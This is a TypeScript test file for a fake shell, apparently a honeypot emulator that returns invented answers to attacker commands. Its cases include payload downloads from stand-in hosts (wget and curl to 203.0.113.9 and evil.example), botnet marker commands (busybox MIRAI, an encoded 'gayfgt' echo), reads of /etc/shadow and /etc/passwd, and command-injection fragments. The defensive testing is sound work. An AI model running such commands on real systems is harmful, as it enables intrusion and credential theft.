import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { FakeShell } from './fake-shell.ts';

describe('FakeShell', () => {
  it.each([
    ['whoami', 'root\n', 0],
    ['pwd', '/root\n', 0],
    ['cd /var/www && pwd', '/var/www\n', 0],
    ['cd /nowhere', '-bash: cd: /nowhere: No such file or directory\n', 1],
    ['uname -a', expect.stringMatching(/^Linux web-03 5\.15.* GNU\/Linux\n$/), 0],
    ['uname -s -v -n -r -m', expect.stringContaining('Linux web-03 5.15'), 0],
    ['cat /etc/passwd | grep root', expect.stringMatching(/^root:x:0:0/), 0],
    ['cat /etc/shadow', 'cat: /etc/shadow: Permission denied\n', 1],
    ['cat ../etc/hostname', 'web-03\n', 0],
    ['echo -e "\\x67\\x61yfgt"', 'gayfgt\n', 0],
    ['echo hi > /tmp/x', '', 0],
    ['/bin/busybox MIRAI', '-bash: /bin/busybox: No such file or directory\n', 127],
    ['enable', 'enable: command not found\n', 127],
    [
      'wget http://203.0.113.9/m.sh',
      expect.stringContaining('unable to resolve host address ‘203.0.113.9’'),
      4,
    ],
    ['curl -sO http://evil.example/x', 'curl: (6) Could not resolve host: evil.example\n', 6],
    ['constructor', 'constructor: command not found\n', 127],
    ['ls -la /root', expect.stringContaining('backup.sh'), 0],
    ['A=1', '', 0],
  ])('answers %s', (line, output, exitCode) => {
    expect(new FakeShell('root').run(line)).toEqual({ output, exitCode, isExit: false });
  });

  it('leaves when told', () => {
    expect(new FakeShell('root').run('id; exit 3; whoami')).toMatchObject({
      exitCode: 3,
      isExit: true,
    });
  });

  it('is another for another user', () => {
    const shell = new FakeShell('ubuntu');
    expect(shell.prompt).toBe('ubuntu@web-03:~$ ');
    expect(shell.run('id').output).toMatch(/^uid=1000\(ubuntu\)/);
  });

  it('puts no odd user name into its answers', () => {
    expect(new FakeShell('../../x\u001b[2J').prompt).toBe('user@web-03:~$ ');
  });

  it('never throws and never says more than it may, whatever it is told', () => {
    const word = fc.constantFrom(
      'ls',
      'cat',
      'cat /etc/passwd',
      'echo',
      '-e',
      '\\x4',
      '"',
      "'",
      ';',
      '|',
      '&&',
      '>',
      '/',
      '..',
      '~',
      '$(id)',
      '\u0000',
    );
    const line = fc.oneof(
      fc.string({ maxLength: 500 }),
      fc.array(word, { maxLength: 60 }).map((words) => words.join(' ')),
    );
    fc.assert(
      fc.property(line, fc.string(), (text, username) => {
        const { output, exitCode } = new FakeShell(username).run(text);
        expect(output.length).toBeLessThanOrEqual(16_384);
        expect(exitCode).toBeGreaterThanOrEqual(0);
      }),
    );
  });
});
